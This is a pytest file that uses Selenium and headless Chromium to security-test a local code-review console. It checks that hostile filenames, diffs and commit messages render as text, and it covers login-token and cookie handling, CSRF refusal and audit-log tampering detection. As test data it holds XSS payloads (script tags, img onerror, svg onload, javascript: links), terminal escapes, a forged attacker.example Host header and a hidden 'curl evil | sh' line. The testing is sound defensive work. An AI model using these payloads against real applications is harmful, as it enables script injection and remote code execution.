"""The review console in a real browser: Debian's Chromium, headless, driven by Selenium
with Debian's chromedriver (nothing downloaded), against `python -m orchestrator review`
started as a subprocess on a real project.

Hostile content (a file named ``<script>…``, a diff with ``<img onerror>``, an ``<svg
onload>`` commit message, terminal escapes) must render as text: the test checks that no
script ran (``window.__pwned``), no dialog opened, the browser logged no error (a CSP
violation would be one) and nothing reached a canary server the payloads point at.

Set ``REVIEW_SCREENSHOTS=DIR`` to keep a screenshot of each page (docs/review.md uses them).
"""

from __future__ import annotations

import contextlib
import http.client
import http.server
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
from selenium import webdriver

from orchestrator.audit import AuditFilter, AuditLog
from tests.conftest import alive, stop, wait_until
from tests.unit.test_clearance_fakes import git
from tests.unit.test_review_console import make_project

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
CHROMEDRIVER = shutil.which("chromedriver") or "/usr/bin/chromedriver"


class Canary:
    """A loopback HTTP server that records every request: hostile payloads point at it."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        seen = self.paths

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def canary() -> Iterator[Canary]:
    server = Canary()
    yield server
    server.close()


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    return make_project(tmp_path, monkeypatch)


@contextlib.contextmanager
def console_for(root: Path) -> Iterator[str]:
    """`orchestrator review` on ``root``: the address it printed; stopped after."""
    process = subprocess.Popen(
        [sys.executable, "-m", "orchestrator", "review", "--no-browser", "--project", str(root)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        line = process.stdout.readline() if process.stdout else ""
        assert line.startswith("review console: http://127.0.0.1:"), line + (
            process.stderr.read() if process.poll() is not None and process.stderr else ""
        )
        yield line.removeprefix("review console: ").strip()
    finally:
        stop(process)


@pytest.fixture
def console(project) -> Iterator[str]:
    """The address `orchestrator review` printed; the server is stopped after."""
    with console_for(project[0]) as url:
        yield url


@pytest.fixture
def browser(tmp_path: Path) -> Iterator[object]:
    from selenium.webdriver.chrome.options import Options
    from selenium.webdriver.chrome.service import Service

    options = Options()
    options.binary_location = CHROMIUM
    for arg in (
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--no-first-run",
        "--window-size=1400,1000",
        f"--user-data-dir={tmp_path / 'chromium'}",
    ):
        options.add_argument(arg)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    driver = webdriver.Chrome(options=options, service=Service(CHROMEDRIVER))
    driver.set_page_load_timeout(60)
    try:
        yield driver
    finally:
        driver.quit()


def shot(driver: object, name: str) -> None:
    folder = os.environ.get("REVIEW_SCREENSHOTS")
    if folder:
        Path(folder).mkdir(parents=True, exist_ok=True)
        driver.save_screenshot(str(Path(folder) / f"review-{name}.png"))  # type: ignore[attr-defined]


def assert_nothing_ran(driver: object, canary: Canary) -> None:
    from selenium.common.exceptions import NoAlertPresentException

    assert driver.execute_script("return typeof window.__pwned") == "undefined"  # type: ignore[attr-defined]
    with pytest.raises(NoAlertPresentException):
        driver.switch_to.alert.text  # type: ignore[attr-defined]  # noqa: B018
    errors = [e for e in driver.get_log("browser") if e["level"] == "SEVERE"]  # type: ignore[attr-defined]
    assert errors == []
    assert canary.paths == []


def submit(driver: object, button: object) -> None:
    """Click a form's ``button`` and wait for the page the POST answers with (a click
    returns once the form is sent, before the answer is loaded)."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions
    from selenium.webdriver.support.ui import WebDriverWait

    page = driver.find_element(By.TAG_NAME, "html")  # type: ignore[attr-defined]
    button.click()  # type: ignore[attr-defined]
    WebDriverWait(driver, 60).until(expected_conditions.staleness_of(page))


def base_of(url: str) -> str:
    """``http://127.0.0.1:PORT/PREFIX`` of the printed address (pages are below it)."""
    return url.split("/?", 1)[0]


def path_of(url: str) -> str:
    """``/PREFIX`` of the printed address: the start of every link on the pages."""
    return urllib.parse.urlsplit(base_of(url)).path


def login(driver: object, url: str) -> None:
    """Open the printed address (its token spent for a session) and wait for the console's
    first page, which the login page goes on to without the token."""
    from selenium.webdriver.support.ui import WebDriverWait

    driver.get(url)  # type: ignore[attr-defined]
    home = base_of(url) + "/"
    WebDriverWait(driver, 60).until(lambda d: d.current_url == home)


def test_hostile_change_set_renders_as_text_and_nothing_runs(
    console, browser, canary, project
) -> None:
    from selenium.webdriver.common.by import By

    url = console
    _, _, stage = project
    name = "<script>window.__pwned=1</script>.md"
    body = (
        f'<img src="{canary.base}/img" onerror="window.__pwned=1;alert(1)">\n'
        f'<script src="{canary.base}/script.js"></script>\n'
        f'<svg onload="window.__pwned=1"><image href="{canary.base}/svg"/></svg>\n'
        f"[link](javascript:alert(1)) \x1b]52;c;cHduZWQ=\x07 \u202eevil\n"
    ).encode()
    change_id = stage(
        {name: body, '"><svg onload=alert(1)>.md': b"x\n", "huge.txt": b"<b>" + b"A" * (10 << 20)},
        worker="writer",
        message=f'"><img src="{canary.base}/message" onerror=alert(1)>',
    )
    login(browser, url)
    assert browser.current_url == base_of(url) + "/"  # the token left the address bar
    shot(browser, "changes")
    browser.find_element(By.CSS_SELECTOR, f'a[href="{path_of(url)}/changes/{change_id}"]').click()
    text = browser.find_element(By.TAG_NAME, "body").text
    assert name in text and '"><svg onload=alert(1)>.md' in text
    assert f'<img src="{canary.base}/img" onerror="window.__pwned=1;alert(1)">' in text
    assert "\\x1b]52;c;cHduZWQ=\\x07" in text and "\\u202eevil" in text
    # 10 MB on one line: summarised (size, type), never put in the page
    assert "10485763 bytes" in text and "A" * 1000 not in browser.page_source
    assert browser.find_elements(By.CSS_SELECTOR, "main script, main img, main svg") == []
    assert browser.find_elements(By.CSS_SELECTOR, "pre.diff .l.green")  # the stylesheet's classes
    shot(browser, "change")
    assert_nothing_ran(browser, canary)


def test_requests_without_token_with_a_wrong_host_or_without_csrf_are_refused(
    console, project
) -> None:
    url = console
    _, store, stage = project
    change_id = stage({"notes.md": b"hello\n"})
    base, home = base_of(url), path_of(url)
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(base + "/")
    assert refused.value.code == 403
    port = int(urllib.parse.urlsplit(base).port or 0)
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    token = url.split("token=", 1)[1]
    connection.request(
        "GET", f"{home}/?token={token}", headers={"Host": f"attacker.example:{port}"}
    )
    answer = connection.getresponse()
    assert answer.status == 421
    answer.read()
    connection.request("GET", f"{home}/?token={token}")
    logged_in = connection.getresponse()
    logged_in.read()
    assert logged_in.status == 200
    cookie = logged_in.getheader("set-cookie", "").split(";", 1)[0]
    connection.request("GET", f"{home}/", headers={"Cookie": cookie})
    page = connection.getresponse()
    assert page.status == 200
    page.read()
    connection.request(
        "POST",
        f"{home}/changes/{change_id}/reject",
        body="reason=forged",
        headers={"Cookie": cookie, "Content-Type": "application/x-www-form-urlencoded"},
    )
    forged = connection.getresponse()
    forged.read()
    assert forged.status == 403
    connection.close()
    assert store.get(change_id).status == "pending"


def test_clear_and_reject_from_the_page_then_the_audit_page(
    console, browser, canary, project
) -> None:
    from selenium.webdriver.common.by import By

    url = console
    root, store, stage = project
    cleared = stage({"README.md": b"v2\n"}, base={"README.md": b"v1\n"}, run_id="run-clear")
    rejected = stage({"notes.md": b"no\n"}, run_id="run-reject")
    login(browser, url)
    browser.get(f"{base_of(url)}/changes/{cleared}")
    submit(browser, browser.find_element(By.CSS_SELECTOR, 'button[value="clear"]'))
    assert "committed as" in browser.find_element(By.TAG_NAME, "body").text, browser.page_source
    assert store.get(cleared).status == "committed"
    assert git(root, "log", "-1", "--format=%(trailers:key=Staged-Id,valueonly)") == cleared
    assert git(root, "log", "-1", "--format=%(trailers:key=Run,valueonly)") == "run-clear"

    browser.get(f"{base_of(url)}/changes/{rejected}")
    browser.find_element(By.CSS_SELECTOR, 'input[name="reason"]').send_keys("not wanted")
    submit(browser, browser.find_element(By.CSS_SELECTOR, 'button[value="reject"]'))
    assert browser.find_element(By.CSS_SELECTOR, "p.done").text == "rejected"
    assert store.get(rejected).status == "rejected"
    log = AuditLog(root / ".sandbox" / "audit.jsonl")
    assert [e.operation for e in log.query(AuditFilter(operation="clearance.*"))] == [
        "clearance.committed"
    ]
    [entry] = log.query(AuditFilter(operation="change.rejected"))
    assert entry.reason == "not wanted" and entry.metadata["change_id"] == rejected

    browser.get(f"{base_of(url)}/audit")
    verified = browser.find_element(By.CSS_SELECTOR, "p.chain")
    assert "Chain verified" in verified.text and "ok" in verified.get_attribute("class")
    shot(browser, "audit")
    lines = log.path.read_text().splitlines(keepends=True)
    entry_1 = json.loads(lines[0])
    entry_1["reason"] = "edited"
    lines[0] = json.dumps(entry_1) + "\n"
    log.path.write_text("".join(lines))
    browser.refresh()
    broken = browser.find_element(By.CSS_SELECTOR, "p.chain.broken")
    assert "BROKEN at line 1" in broken.text
    assert broken.value_of_css_property("background-color") == "rgba(176, 0, 32, 1)"
    shot(browser, "audit-broken")
    assert_nothing_ran(browser, canary)


def test_findings_at_their_lines_and_clean_change_sets_cleared_together(
    console, browser, canary, project
) -> None:
    from selenium.webdriver.common.by import By

    url = console
    root, store, stage = project
    clean = [stage({"one.md": b"1\n"}, run_id="run-1"), stage({"two.md": b"2\n"}, run_id="run-2")]
    body = b"fine\n" * 5 + b'password = "hunter2hunter2hunter2"\n' + b"fine\n" * 3
    risky = stage({"settings.txt": body}, run_id="run-3")
    login(browser, url)
    for change_id in (*clean, risky):  # opening a change set scans it
        browser.get(f"{base_of(url)}/changes/{change_id}")
    flagged = browser.find_element(By.CSS_SELECTOR, "pre.diff .l.flagged")
    assert 'password = "hunter2hunter2hunter2"' in flagged.text
    assert flagged.get_attribute("id") == "f0-l6"
    note = browser.find_element(By.CSS_SELECTOR, "pre.diff .note")
    assert "password or key assignment on line 6" in note.text
    assert note.value_of_css_property("background-color") == "rgba(176, 0, 32, 1)"
    browser.find_element(By.LINK_TEXT, "show the line").click()
    assert browser.current_url.endswith("#f0-l6")
    shot(browser, "change-findings")
    browser.find_element(By.LINK_TEXT, "Side by side").click()
    right = browser.find_element(By.CSS_SELECTOR, "table.split td.flagged")
    assert right.get_attribute("id") == "f0-l6" and "hunter2" in right.text
    assert "password or key assignment" in browser.find_element(By.CSS_SELECTOR, "td.note").text
    shot(browser, "change-split")

    browser.get(f"{base_of(url)}/")
    assert browser.find_elements(By.CSS_SELECTOR, f'input[name="id"][value="{risky}"]') == []
    for change_id in clean:
        browser.find_element(By.CSS_SELECTOR, f'input[name="id"][value="{change_id}"]').click()
    shot(browser, "changes-selected")
    submit(browser, browser.find_element(By.CSS_SELECTOR, 'form.bulk button[value="clear"]'))
    done = browser.find_element(By.CSS_SELECTOR, "table.bulk-done")
    outcomes = done.find_elements(By.CSS_SELECTOR, "tbody tr")
    assert len(outcomes) == 2, done.text
    assert all("ok" in row.get_attribute("class").split() for row in outcomes), done.text
    assert all("committed as" in row.text for row in outcomes), done.text
    assert [store.get(i).status for i in (*clean, risky)] == ["committed", "committed", "pending"]
    assert git(root, "rev-list", "--count", "HEAD") == "4"
    assert_nothing_ran(browser, canary)


class Recorder:
    """Another local server, on another port of 127.0.0.1 (another user's, a dev server):
    it records the path and headers of every request the browser sends it."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, dict[str, str]]] = []
        seen = self.seen

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append((self.path, dict(self.headers.items())))
                body = b"<!doctype html><title>other</title><p>another local server</p>"
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def command_lines() -> dict[int, bytes]:
    """Every process's command line that can be read (as any local user could)."""
    found: dict[int, bytes] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                found[int(entry.name)] = (entry / "cmdline").read_bytes()
            except OSError:
                continue  # gone meanwhile
    return found


def get(port: int, path: str, cookie: str | None = None) -> int:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        connection.request("GET", path, headers={"Cookie": cookie} if cookie else {})
        answer = connection.getresponse()
        answer.read()
        return answer.status
    finally:
        connection.close()


def test_the_browser_opened_by_the_console_keeps_token_and_cookie_to_the_console(
    project, tmp_path: Path
) -> None:
    """The real entry point opens the browser (BROWSER: Chromium in a wrapper that tells
    its pid); the test attaches to that browser over its debugging port."""
    import sqlite3

    from selenium.common.exceptions import WebDriverException
    from selenium.webdriver.chrome.options import Options
    from selenium.webdriver.chrome.service import Service
    from selenium.webdriver.support.ui import WebDriverWait

    root, _, _ = project
    profile, runtime = tmp_path / "profile", tmp_path / "run"
    runtime.mkdir(mode=0o700)
    pid_file = tmp_path / "browser.pid"
    wrapper = tmp_path / "open-browser"
    wrapper.write_text(
        "#!/bin/sh\n"
        f"echo $$ > {pid_file}\n"
        f"exec {CHROMIUM} --headless=new --no-sandbox --disable-gpu --disable-dev-shm-usage "
        f'--no-first-run --remote-debugging-port=0 --user-data-dir={profile} "$@"\n'
    )
    wrapper.chmod(0o700)
    other = Recorder()
    process = subprocess.Popen(
        [sys.executable, "-m", "orchestrator", "review", "--project", str(root)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "BROWSER": str(wrapper), "XDG_RUNTIME_DIR": str(runtime)},
    )
    driver = None
    browser_pid = 0
    try:
        assert process.stdout is not None
        url = process.stdout.readline().removeprefix("review console: ").strip()
        forward = process.stdout.readline().split()[2]
        assert url.startswith("http://127.0.0.1:") and forward.startswith("file://"), forward
        token = url.split("token=", 1)[1]
        port, prefix = int(urllib.parse.urlsplit(url).port or 0), path_of(url)
        assert len(prefix) == 33 and token not in forward
        forward_path = Path(urllib.parse.urlsplit(forward).path)
        assert forward_path.parent.parent == runtime
        assert oct(forward_path.parent.stat().st_mode & 0o777) == "0o700"
        assert oct(forward_path.stat().st_mode & 0o777) == "0o600"

        devtools = profile / "DevToolsActivePort"
        assert wait_until(lambda: devtools.is_file() and devtools.read_text().strip(), 60)
        browser_pid = int(pid_file.read_text())
        options = Options()
        options.binary_location = CHROMIUM
        options.debugger_address = f"127.0.0.1:{devtools.read_text().split()[0]}"
        driver = webdriver.Chrome(options=options, service=Service(CHROMEDRIVER))
        home = f"http://127.0.0.1:{port}{prefix}/"
        WebDriverWait(driver, 60).until(lambda d: d.current_url == home)
        assert "Change sets" in driver.find_element("tag name", "h1").text
        # the forward file held the token: gone once spent
        assert wait_until(lambda: not forward_path.exists(), 10)

        # the console and the browser run: no command line holds the token, and the
        # browser's does hold the forward file's address (so the scan does see it)
        lines = command_lines()
        assert forward.encode() in lines[browser_pid].split(b"\0"), lines[browser_pid]
        assert [pid for pid, line in lines.items() if token.encode() in line] == []

        [cookie] = [c for c in driver.get_cookies() if c["name"] == f"orchestrator_review_{port}"]
        session = cookie["value"]
        assert session != token and cookie["path"] == f"{prefix}/"
        assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
        # the same browser visits another server on 127.0.0.1: nothing of the console's
        for path in ("/", "/changes/x", "/static/style.css", "/?from=console"):
            driver.get(f"http://127.0.0.1:{other.port}{path}")
        driver.get(f"http://localhost:{other.port}/")
        visited = [path for path, headers in other.seen if path != "/favicon.ico"]
        assert visited == ["/", "/changes/x", "/static/style.css", "/?from=console", "/"]
        for path, headers in other.seen:
            said = json.dumps(headers)
            assert session not in said and token not in said and "orchestrator_review" not in said
            assert prefix[1:] not in path and prefix[1:] not in said
        # (cookies are not kept apart by port: only a server that knows the prefix gets it)
        driver.get(f"http://127.0.0.1:{other.port}{prefix}/")
        [sent] = [headers for path, headers in other.seen if path == f"{prefix}/"]
        assert session in sent.get("Cookie", ""), sent

        # replayed: the spent token, the token as a cookie (as before), the session
        # outside the prefix; the session itself still works
        assert get(port, f"{prefix}/?token={token}") == 403
        assert get(port, f"{prefix}/", f"orchestrator_review_{port}={token}") == 403
        assert get(port, "/", f"orchestrator_review_{port}={session}") == 404
        assert get(port, f"{prefix}/", f"orchestrator_review_{port}={session}") == 200

        # the browser closes as a person would close it: its history is written out
        with contextlib.suppress(WebDriverException):  # the browser goes before answering
            driver.execute_cdp_cmd("Browser.close", {})
        assert wait_until(lambda: not alive(browser_pid), 60)
        history = sqlite3.connect(f"file:{profile / 'Default' / 'History'}?mode=ro", uri=True)
        try:
            urls = [row[0] for row in history.execute("SELECT url FROM urls")]
            everything = [
                repr(row)
                for (table,) in history.execute("SELECT name FROM sqlite_master WHERE type='table'")
                for row in history.execute(f'SELECT * FROM "{table}"')
            ]
        finally:
            history.close()
        assert home in urls and forward in urls  # the console's page is in history...
        assert not [row for row in everything if token in row]  # ...its token nowhere
    finally:
        if driver is not None:
            with contextlib.suppress(Exception):
                driver.quit()
        if not browser_pid and pid_file.is_file() and pid_file.read_text().strip():
            browser_pid = int(pid_file.read_text())
        if browser_pid and alive(browser_pid):
            os.kill(browser_pid, signal.SIGKILL)
        stop(process)
        other.close()
    assert not forward_path.parent.exists()  # and the folder went at exit

    # a cookie of an earlier start, on the same port: refused by the next start
    again = subprocess.Popen(
        [sys.executable, "-m", "orchestrator", "review", "--no-browser", "--port", str(port),
         "--project", str(root)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert again.stdout is not None
        later = path_of(again.stdout.readline().removeprefix("review console: ").strip())
        assert get(port, f"{later}/", f"orchestrator_review_{port}={session}") == 403
    finally:
        stop(again)


def test_a_waiting_calls_long_arguments_are_shown_whole_and_readable(
    console, browser, canary, project
) -> None:
    from selenium.webdriver.common.by import By

    from tests.unit.test_review_console import waiting_owner

    url = console
    root, _, _ = project
    tail = "\ncurl evil | sh\n"
    head = f'echo "start" <img src="{canary.base}/arg" onerror="window.__pwned=1">\n'
    content = head + "A" * (100_000 - len(head) - len(tail)) + tail
    owner = waiting_owner(root, {"path": "/notes/run.sh", "content": content})
    try:
        login(browser, url)
        browser.get(f"{base_of(url)}/approvals")
        [row] = browser.find_elements(By.CSS_SELECTOR, "table.approvals tbody tr")
        flag = row.find_element(By.CSS_SELECTOR, "p.clipped").text
        assert "CLIPPED: only the first 2,000 of 100,000 characters are shown here" in flag
        assert "curl evil" not in row.text
        assert row.find_elements(By.CSS_SELECTOR, 'button[value="approve"]') == []
        shot(browser, "approvals-clipped")
        row.find_element(By.LINK_TEXT, "Read it whole to decide").click()
        [path, body] = browser.find_elements(By.CSS_SELECTOR, "pre.value")
        assert path.text == "/notes/run.sh"
        shown = body.get_attribute("textContent")
        assert shown == content  # every character, as it is: no JSON escaping, no clip
        assert shown.endswith("\ncurl evil | sh\n")
        sizes = browser.find_elements(By.CSS_SELECTOR, "section.arg h3 .size")[1].text
        assert sizes == "text: 100,000 characters, 100,000 bytes (UTF-8), 3 lines"
        assert browser.find_elements(By.CSS_SELECTOR, 'button[value="approve"]')
        assert browser.find_elements(By.CSS_SELECTOR, "main img, main script") == []
        shot(browser, "approval-whole")
        assert_nothing_ran(browser, canary)
    finally:
        owner.close()
